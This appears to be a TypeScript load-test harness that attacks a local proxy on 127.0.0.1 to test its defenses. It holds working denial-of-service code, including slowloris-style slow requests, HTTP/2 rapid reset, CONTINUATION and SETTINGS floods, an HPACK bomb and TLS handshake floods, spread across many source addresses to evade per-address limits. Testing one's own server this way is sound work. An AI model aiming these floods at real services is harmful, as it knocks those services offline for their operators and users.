/**
 * One attack on one port, from as many addresses as it needs to get past what one address may: 127.1.0.1, 127.1.0.2, ...
 *
 *   node loadtest/attacks/attacker.ts NAME PORT TLS_PORT SECONDS
 *
 * Prints to stderr how many connections it has opened and how many bytes it has sent.
 */
import { connect, type Socket } from 'node:net';
import tls from 'node:tls';
import {
  bombBlock,
  END_HEADERS,
  END_STREAM,
  frame,
  PREFACE,
  requestBlock,
  settings,
  TYPES,
} from './http2_bytes.ts';

/** Below the limit for one address. */
const CONNECTIONS_PER_ADDRESS = 200;
const REOPEN_MS = 20;
/** How long it takes until all connections of a crowd are open. */
const OPENING_MS = 3_000;
const BULK = Buffer.alloc(64 * 1_024, 'x');
const GOOD_HEADERS = 'Host: app.test\r\n';
const INITIAL_WINDOW_SIZE = 4;

const [name = '', ...numbers] = process.argv.slice(2);
const [port = 0, tlsPort = 0, seconds = 10] = numbers.map(Number);
let opened = 0;
let sentBytes = 0;

/** Keeps this many connections open, and replaces each that the proxy closes. */
function crowd(
  count: number,
  behave: (socket: Socket) => void,
  { to = port, reopenMs = REOPEN_MS }: { readonly to?: number; readonly reopenMs?: number } = {},
): void {
  for (let number = 0; number < count; number++) {
    const localAddress = `127.1.0.${1 + Math.floor(number / CONNECTIONS_PER_ADDRESS)}`;
    const open = () => {
      const socket = connect({ host: '127.0.0.1', port: to, localAddress, noDelay: true });
      socket.on('error', () => {});
      socket.once('connect', () => {
        opened++;
        behave(socket);
      });
      socket.once('close', () => {
        sentBytes += socket.bytesWritten;
        setTimeout(open, reopenMs);
      });
    };
    setTimeout(open, (number / count) * OPENING_MS);
  }
}

/** Sends the next bytes as soon as the operating system has taken the ones before. */
function flood(socket: Socket, next: () => Buffer): void {
  const more = () => {
    while (!socket.destroyed && socket.write(next()));
  };
  socket.on('drain', more);
  more();
}

function drip(socket: Socket, everyMs: number, bytes: string): void {
  const timer = setInterval(() => void socket.write(bytes), everyMs);
  socket.once('close', () => clearInterval(timer));
}

/** Sends a request with a chunked body, and then the same bytes for ever. */
function chunked(count: number, chunks: string): void {
  const bytes = Buffer.from(chunks);
  crowd(count, socket => {
    socket.resume();
    socket.write(`POST /upload HTTP/1.1\r\n${GOOD_HEADERS}Transfer-Encoding: chunked\r\n\r\n`);
    flood(socket, () => bytes);
  });
}

/** Sends the preface, and then the same frames for ever; responses are discarded. */
function frames(count: number, bytes: Buffer, first: Buffer = settings([])): void {
  crowd(count, socket => {
    socket.resume();
    socket.write(Buffer.concat([PREFACE, first]));
    flood(socket, () => bytes);
  });
}

/** Sends the preface, and then new streams of `make` for ever. */
function streams(count: number, make: (stream: number) => Buffer): void {
  crowd(count, socket => {
    socket.resume();
    socket.write(Buffer.concat([PREFACE, settings([])]));
    let stream = -1;
    flood(socket, () =>
      Buffer.concat(
        Array.from({ length: 20 }, () => {
          stream += 2;
          return make(stream);
        }),
      ),
    );
  });
}

const HEADERS_OPEN = (path: string) => frame(TYPES.headers, END_HEADERS, 1, requestBlock('POST', path));
const times = (count: number, bytes: Buffer) => Buffer.concat(Array.from({ length: count }, () => bytes));

const ATTACKS: Readonly<Record<string, () => void>> = {
  none: () => {},
  slow_head: () =>
    crowd(2_000, socket => {
      socket.write(`GET / HTTP/1.1\r\n${GOOD_HEADERS}X-A: `);
      drip(socket, 1_000, 'a');
    }),
  slow_body: () =>
    crowd(1_000, socket => {
      socket.resume();
      socket.write(`POST /upload HTTP/1.1\r\n${GOOD_HEADERS}Content-Length: 1000000\r\n\r\nx`);
      drip(socket, 5_000, 'x');
    }),
  slow_reader: () =>
    crowd(400, socket => {
      socket.write(`GET /large HTTP/1.1\r\n${GOOD_HEADERS}\r\n`);
      // Nobody reads: without a listener Node takes 64 KiB at most.
    }),
  connection_flood: () => crowd(1_000, socket => socket.resetAndDestroy(), { reopenMs: 1 }),
  connection_crowd: () => crowd(4_000, socket => socket.resume()),
  header_bombs: () =>
    crowd(64, socket => {
      socket.resume();
      const fields = Array.from({ length: 400 }, (_, at) => `X-${at}: ${'y'.repeat(60)}\r\n`).join('');
      socket.write(`GET / HTTP/1.1\r\n${GOOD_HEADERS}${fields}\r\n`);
    }),
  // No attack, but the comparison for the floods below: as many bytes in an honest way.
  bulk_upload: () =>
    crowd(64, socket => {
      socket.resume();
      socket.write(`POST /upload HTTP/1.1\r\n${GOOD_HEADERS}Content-Length: 99000000\r\n\r\n`);
      flood(socket, () => BULK);
    }),
  chunk_extensions: () => chunked(64, `1;${'e'.repeat(15_000)}\r\nx\r\n`),
  tiny_chunks: () => chunked(64, '1\r\nx\r\n'.repeat(5_000)),
  rapid_reset: () =>
    streams(64, stream =>
      Buffer.concat([
        frame(TYPES.headers, END_HEADERS | END_STREAM, stream, requestBlock('GET', '/small')),
        frame(TYPES.resetStream, 0, stream, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  continuation_flood: () =>
    frames(
      64,
      frame(TYPES.continuation, 0, 1, Buffer.alloc(1_000, 0x82)),
      Buffer.concat([settings([]), frame(TYPES.headers, 0, 1, requestBlock('GET', '/small'))]),
    ),
  settings_flood: () => frames(64, times(500, settings([[INITIAL_WINDOW_SIZE, 65_535]]))),
  ping_flood: () => frames(64, times(500, frame(TYPES.ping, 0, 0, Buffer.alloc(8)))),
  priority_flood: () => frames(64, times(500, frame(TYPES.priority, 0, 3, Buffer.from([0, 0, 0, 0, 16])))),
  empty_data: () =>
    frames(64, times(500, frame(TYPES.data, 0, 1)), Buffer.concat([settings([]), HEADERS_OPEN('/upload')])),
  tiny_data: () =>
    frames(
      64,
      times(500, frame(TYPES.data, 0, 1, Buffer.from('x'))),
      Buffer.concat([settings([]), HEADERS_OPEN('/upload')]),
    ),
  hpack_bomb: () =>
    streams(64, stream => frame(TYPES.headers, END_HEADERS | END_STREAM, stream, bombBlock('/small'))),
  closed_windows: () =>
    crowd(200, socket => {
      socket.resume();
      socket.write(Buffer.concat([PREFACE, settings([[INITIAL_WINDOW_SIZE, 0]])]));
      for (let stream = 1; stream < 2 * 100; stream += 2)
        socket.write(frame(TYPES.headers, END_HEADERS | END_STREAM, stream, requestBlock('GET', '/small')));
    }),
  websocket_crowd: () =>
    crowd(1_000, socket => {
      socket.resume();
      const key = 'Sec-WebSocket-Version: 13\r\n';
      socket.write(
        `GET /silent HTTP/1.1\r\n${GOOD_HEADERS}Connection: Upgrade\r\nUpgrade: websocket\r\n${key}\r\n`,
      );
    }),
  tls_handshakes: () =>
    crowd(
      200,
      socket => {
        const secure = tls.connect({ socket, rejectUnauthorized: false });
        secure.on('error', () => {});
        secure.once('secureConnect', () => secure.destroy());
      },
      { to: tlsPort, reopenMs: 1 },
    ),
  tls_silence: () => crowd(2_000, socket => void socket.write('\x16\x03\x01'), { to: tlsPort }),
};

const attack = ATTACKS[name];
if (attack === undefined)
  throw new Error(`no attack "${name}"; there are ${Object.keys(ATTACKS).join(', ')}`);
attack();
setTimeout(() => {
  process.stdout.write(`${JSON.stringify({ opened, sentBytes })}\n`);
  process.exit(0);
}, seconds * 1_000);
